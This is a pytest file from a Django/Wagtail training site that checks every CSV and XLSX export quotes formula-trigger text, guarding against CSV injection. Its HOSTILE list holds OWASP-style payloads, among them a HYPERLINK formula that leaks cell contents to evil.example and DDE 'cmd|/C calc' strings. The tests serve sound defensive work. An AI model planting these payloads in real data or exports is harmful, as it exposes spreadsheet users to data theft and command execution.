"""Every spreadsheet the site offers keeps hostile text as text (issue 15, hole 5).

The exports are enumerated, not listed by hand: every URL whose view can export (Wagtail's
`SpreadsheetExportMixin`: Wagtail's reports, snippet and ModelViewSet listings, the project's
training reports, form submissions) is requested as CSV and as XLSX, by staff and by the
non-staff roles that may open it, over data with a formula in every free-text field. No cell may
begin with a formula trigger. A source check makes sure nothing else in the project writes a
spreadsheet, so a new download has to go through the same place.
"""

import csv
import datetime as dt
import io
import re
from pathlib import Path

from django.contrib.auth.models import Group
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import (
    GroupApprovalTask,
    Page,
    Site,
    Workflow,
    WorkflowTask,
    get_page_models,
)

import pytest
from openpyxl import load_workbook

from courses.choices import AssessmentKind, EnrollmentStatus
from courses.services.nominations import appoint_focal_point
from tests import factories

pytestmark = pytest.mark.django_db

# One per trigger: = + - @ tab and carriage return (OWASP, CSV injection).
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
ROOT = Path(__file__).resolve().parents[2]

# How many columns of each export carry free text typed by someone (a title, a name, a link):
# each of them must show the hostile value, neutralised. The other columns are numbers, dates
# or the platform's own words (statuses, types, countries).
FREE_TEXT_COLUMNS = {
    "wagtailadmin_reports:locked_pages": 2,  # title, locked by
    "wagtailadmin_reports:workflow": 3,  # workflow, page, requested by
    "wagtailadmin_reports:workflow_tasks": 4,  # task, page, requested by, finished by
    "wagtailadmin_reports:site_history": 2,  # name, user
    "wagtailadmin_reports:aging_pages": 2,  # title, last published by
    "wagtailredirects:index": 2,  # link, site
    "course_reports:run": 1,  # the run's label (course title and date)
    "course_reports:course": 1,
    "course_reports:topic": 1,
    "wagtailsnippets_courses_courserun:list": 1,  # course
    # name (Latin), name (Arabic), e-mail, organisation, job title, course
    "wagtailsnippets_courses_enrollment:list": 6,
}


def export_routes():
    """(URL name, path) of every argument-free route whose view can export a spreadsheet."""

    def walk(patterns, prefix="", namespace=None):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = pattern.namespace
                full = f"{namespace}:{inner}" if namespace and inner else (inner or namespace)
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern), full)
            elif isinstance(pattern, URLPattern):
                name = f"{namespace}:{pattern.name}" if namespace else pattern.name
                yield name, prefix + str(pattern.pattern), pattern

    for name, route, pattern in walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        assert "<" not in route, f"an export with arguments, add how to build it: {name} {route}"
        yield name, reverse(name)


def totp(user):
    factories.TOTPAuthenticatorFactory(user=user)
    return user


def hostile_user(index: int, **kwargs):
    # Usernames may start with @, + or -: Django's validator accepts them.
    username = ["@evil", "+evil", "-evil", "@mallory", "+mallory", "-mallory"][index % 6]
    return factories.UserFactory(
        username=f"{username}{index}",
        first_name=HOSTILE[index % len(HOSTILE)],
        last_name=HOSTILE[(index + 1) % len(HOSTILE)],
        **kwargs,
    )


@pytest.fixture
def hostile_world(course_index, home_pages):
    """Pages, runs, trainees, workflows, locks and redirects with formulas wherever text goes."""
    now = timezone.now()
    editor = hostile_user(0, is_staff=True, is_superuser=True)
    topic = factories.TopicFactory(name=HOSTILE[1])
    course = factories.CoursePageFactory(parent=course_index, title=HOSTILE[0], topic=topic)
    course.save_revision(user=editor).publish(user=editor)  # site history, ageing pages
    run = factories.CourseRunFactory(
        course=course,
        venue=HOSTILE[2],
        start_date=dt.date(2026, 3, 1),
        end_date=dt.date(2026, 3, 5),
    )
    pre = factories.AssessmentPageFactory(parent=course, kind=AssessmentKind.PRE_TEST)
    post = factories.AssessmentPageFactory(parent=course, kind=AssessmentKind.POST_TEST)
    session = factories.SessionFactory(run=run)
    trainees = []
    for index in range(6):
        trainee = hostile_user(index + 1)
        factories.TraineeProfileFactory(
            user=trainee,
            name_latin=HOSTILE[index],
            name_arabic=HOSTILE[(index + 2) % 6],
            organisation=HOSTILE[(index + 3) % 6],
            job_title=HOSTILE[(index + 4) % 6],
            country="JO",
        )
        trainee.email = f"{HOSTILE[index][:1]}x{index}@example.org".replace("\t", "").replace(
            "\r", ""
        )
        trainee.save()
        enrollment = factories.EnrollmentFactory(
            run=run, user=trainee, status=EnrollmentStatus.COMPLETED, completed_at=now
        )
        # Scores fall between the tests: a negative knowledge gain, a number, not a formula.
        for assessment, score in ((pre, 90), (post, 60)):
            factories.AttemptFactory(
                enrollment=enrollment, assessment=assessment, score=score, submitted_at=now
            )
        factories.AttendanceFactory(session=session, enrollment=enrollment)
        trainees.append(trainee)
    # A locked page, and a page in a workflow with a finished task (workflow reports).
    locked = Page.objects.get(pk=course.pk)
    locked.locked, locked.locked_by, locked.locked_at = True, hostile_user(7), now
    locked.save()
    moderators = Group.objects.create(name=HOSTILE[5])
    # Names without a line break: Wagtail puts them in the subject of its notification e-mails.
    task = GroupApprovalTask.objects.create(name=HOSTILE[4])
    task.groups.add(moderators)
    workflow = Workflow.objects.create(name=HOSTILE[3])
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    reviewed = factories.CoursePageFactory(parent=course_index, title=HOSTILE[2])
    reviewed.save_revision(user=editor)
    state = workflow.start(reviewed, hostile_user(8))
    task_state = state.current_task_state
    task_state.finished_at, task_state.finished_by = now, hostile_user(9)
    task_state.save()
    site = Site.objects.get(is_default_site=True)
    site.site_name = HOSTILE[1]
    site.save()
    Redirect.objects.create(old_path="/old", redirect_link=HOSTILE[0], site=site)
    focal_point = totp(factories.UserFactory())
    appoint_focal_point(user=focal_point, country="JO", by=None)
    instructor = totp(factories.make_instructor(course))
    factories.CourseInstructorFactory(page=course, name=HOSTILE[3])
    return {
        "staff": totp(editor),
        "focal_point": focal_point,
        "instructor": instructor,
        "course": course,
        "run": run,
    }


def cells_of(response, export_format: str) -> list[list]:
    body = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    workbook = load_workbook(io.BytesIO(body))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def formula_cells(rows: list[list], export_format: str) -> list:
    """Cells a spreadsheet would run: text starting with a trigger (a number is a number)."""
    found = []
    for row in rows:
        for cell in row:
            if not isinstance(cell, str) or not cell.startswith(TRIGGERS):
                continue
            if export_format == "csv" and NUMBER.match(cell):
                continue  # "-20.0" in a CSV is read back as the number it was
            found.append(cell)
    return found


def neutralised_columns(rows: list[list]) -> int:
    """The number of columns where a hostile value came out quoted ("'=HYPERLINK...")."""
    quoted = tuple(f"'{trigger}" for trigger in TRIGGERS)
    columns = set()
    for row in rows[1:]:
        for index, cell in enumerate(row):
            if isinstance(cell, str) and cell.startswith(quoted):
                columns.add(index)
    return len(columns)


def test_the_enumeration_finds_wagtails_and_the_projects_exports():
    names = {name for name, _path in export_routes()}
    assert set(FREE_TEXT_COLUMNS) <= names
    assert {"wagtailadmin_reports:site_history", "wagtailadmin_reports:aging_pages"} <= names
    # Form submissions export too; the site has no form page type yet. Adding one must add its
    # submissions (with hostile answers and labels) to this test.
    form_pages = [model.__name__ for model in get_page_models() if issubclass(model, FormMixin)]
    assert form_pages == [], f"form pages whose submissions export must be tested: {form_pages}"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_no_export_holds_a_live_formula(client, hostile_world, export_format):
    client.force_login(hostile_world["staff"])
    checked = 0
    for name, path in export_routes():
        response = client.get(path, {"export": export_format})
        assert response.status_code == 200, (name, response.status_code)
        assert response.has_header("Content-Disposition"), name
        rows = cells_of(response, export_format)
        assert formula_cells(rows, export_format) == [], name
        expected = FREE_TEXT_COLUMNS.get(name.removesuffix("_results"), 0)
        assert neutralised_columns(rows) >= expected, (name, rows[:3])
        checked += 1
    assert checked >= 2 * len(FREE_TEXT_COLUMNS)


@pytest.mark.parametrize("role", ["focal_point", "instructor"])
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_reports_exported_by_non_staff_hold_no_formula(client, hostile_world, role, export_format):
    client.force_login(hostile_world[role])
    for dimension in ("run", "course", "topic", "country", "year"):
        response = client.get(reverse(f"course_reports:{dimension}"), {"export": export_format})
        assert response.status_code == 200
        rows = cells_of(response, export_format)
        assert len(rows) > 1
        assert formula_cells(rows, export_format) == [], (role, dimension)


def test_numbers_stay_numbers(client, hostile_world, settings):
    """A negative knowledge gain is exported as a number, not quoted as text."""
    settings.LANGUAGE_CODE = "en"
    client.force_login(hostile_world["staff"])
    response = client.get(reverse("course_reports:run"), {"export": "xlsx"})
    heading, *rows = cells_of(response, "xlsx")
    gain = rows[0][heading.index("Knowledge gain (points)")]
    assert gain == -30
    csv_rows = cells_of(client.get(reverse("course_reports:run"), {"export": "csv"}), "csv")
    assert csv_rows[1][csv_rows[0].index("Knowledge gain (points)")] == "-30.0"


# --- nothing else writes a spreadsheet --------------------------------------------------------

WRITERS = re.compile(
    r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|text/csv|spreadsheetml|\.xlsx\b"
)
# The one place cells are neutralised, and the patch that sends Wagtail's exports through it.
SANCTIONED = {"training_site/core/spreadsheets.py", "training_site/core/patches.py"}
# Mentions that write nothing: the list of document extensions editors may upload.
MENTIONS = {"training_site/settings/base.py"}


def test_only_the_spreadsheet_module_writes_spreadsheets():
    offenders = []
    for app in ("training_site", "courses", "certificates"):
        for path in (ROOT / app).rglob("*.py"):
            relative = str(path.relative_to(ROOT))
            if "migrations" in relative or relative in SANCTIONED | MENTIONS:
                continue
            if WRITERS.search(path.read_text(encoding="utf-8")):
                offenders.append(relative)
    templates = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "templates").rglob("*")
        if path.suffix in (".csv", ".xlsx")
    ]
    assert offenders == [] and templates == [], (
        "spreadsheets written outside training_site/core/spreadsheets.py: write them through it",
        offenders,
        templates,
    )
